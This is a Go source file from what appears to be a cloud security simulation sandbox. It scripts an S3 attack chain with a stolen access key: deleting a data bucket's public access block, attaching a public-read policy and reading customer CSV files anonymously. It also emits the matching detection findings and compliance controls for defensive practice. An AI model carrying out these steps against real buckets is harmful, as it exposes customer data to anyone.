package sandbox

// playPublicBucket: the data bucket's public access block is deleted and
// a public read policy put on it; its objects are then read anonymously.
func playPublicBucket(p *player) error {
	c := p.c
	_, err := c.rest("s3", "DELETE", "/"+dataBucket, "publicAccessBlock=", nil)
	if err := p.step("DefenseEvasion", "s3:DeletePublicAccessBlock "+dataBucket, err); err != nil {
		return err
	}
	p.finding(FindingSpec{Type: "Policy:S3/BucketBlockPublicAccessDisabled", Bucket: dataBucket, UserName: "etl-batch", AccessKeyID: stolenKey, API: "DeletePublicAccessBlock"})
	policy := `{"Version":"2012-10-17","Statement":[{"Sid":"PublicRead","Effect":"Allow","Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::` + dataBucket + `/*"}]}`
	_, err = c.rest("s3", "PUT", "/"+dataBucket, "policy=", []byte(policy))
	if err := p.step("Exfiltration", "s3:PutBucketPolicy "+dataBucket+" (Principal *)", err); err != nil {
		return err
	}
	p.metric(gameRegion, "CloudTrailMetrics", "S3BucketPolicyEventCount", 1)
	p.finding(FindingSpec{Type: "Policy:S3/BucketAnonymousAccessGranted", Bucket: dataBucket, UserName: "etl-batch", AccessKeyID: stolenKey, API: "PutBucketPolicy"})
	p.control("S3.2", "S3 general purpose buckets should block public read access", "AwsS3Bucket", "arn:aws:s3:::"+dataBucket, "CRITICAL")
	p.control("S3.8", "S3 general purpose buckets should block public access", "AwsS3Bucket", "arn:aws:s3:::"+dataBucket, "HIGH")
	// Anonymous readers: unsigned requests from outside.
	anon := p.c.as("", "", "")
	anon.sourceIP, anon.agent = "192.0.2.200", "curl/8.5.0"
	for _, key := range []string{"customers/2025-04.csv", "customers/2025-05.csv"} {
		_, err := anon.rest("s3", "GET", "/"+dataBucket+"/"+key, "", nil)
		p.step("Exfiltration", "anonymous s3:GetObject "+dataBucket+"/"+key+" from 192.0.2.200", err)
	}
	return nil
}
